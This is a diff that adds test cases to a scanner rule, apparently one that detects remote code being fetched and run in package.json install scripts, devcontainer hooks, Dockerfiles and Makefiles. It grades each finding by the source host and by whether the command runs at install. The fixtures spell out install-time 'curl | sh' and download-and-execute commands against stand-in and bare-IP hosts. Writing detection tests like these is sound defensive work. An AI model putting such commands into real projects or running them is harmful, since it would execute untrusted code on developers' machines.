@@ -58,5 +58,28 @@ ruleTest(rule, {
       files: { 'package.json': '{"scripts":{"install":"curl -sL http://x.example/p -o /tmp/p && chmod +x /tmp/p && /tmp/p"}}' },
       findings: [{ line: 1, evidence: /curl -sL http:\/\/x\.example\/p -o \/tmp\/p && chmod \+x \/tmp\/p && \/tmp\/p/ }],
     },
+    {
+      name: 'devcontainer installs a tool from a named host (medium), and from a bare public IP (high/high)',
+      files: { '.devcontainer/devcontainer.json': '{\n "postCreateCommand": "curl -fsSL https://bun.sh/install | bash",\n "postStartCommand": "curl -s http://203.0.113.7:1244/client/9 | sh"\n}' },
+      findings: [
+        { line: 2, severity: 'medium', confidence: 'medium' },
+        { line: 3, severity: 'high', confidence: 'high', evidence: 'curl -s http://203.0.113.7:1244/client/9 | sh' },
+      ],
+    },
+    {
+      name: 'Dockerfile curl | sh from a private address stays low',
+      files: { 'Dockerfile': 'FROM node:20\nRUN curl -s http://10.0.0.5/setup.sh | sh\n' },
+      findings: [{ line: 2, severity: 'low' }],
+    },
+    {
+      name: 'Makefile recipe reached from preinstall weighs as an install script',
+      files: { 'Makefile': 'install:\n\tnpm ci\n\tcurl -s https://cdn.example.invalid/s | sh\n', 'package.json': '{"scripts":{"preinstall":"make install"}}' },
+      findings: [{ line: 3, file: 'Makefile', severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'a Makefile target nothing runs on install stays medium/low',
+      files: { 'Makefile': 'tools:\n\tcurl -fsSL https://sh.rustup.rs | sh\n', 'package.json': '{"scripts":{"build":"make tools"}}' },
+      findings: [{ line: 2, file: 'Makefile', severity: 'medium', confidence: 'low' }],
+    },
   ],
 });
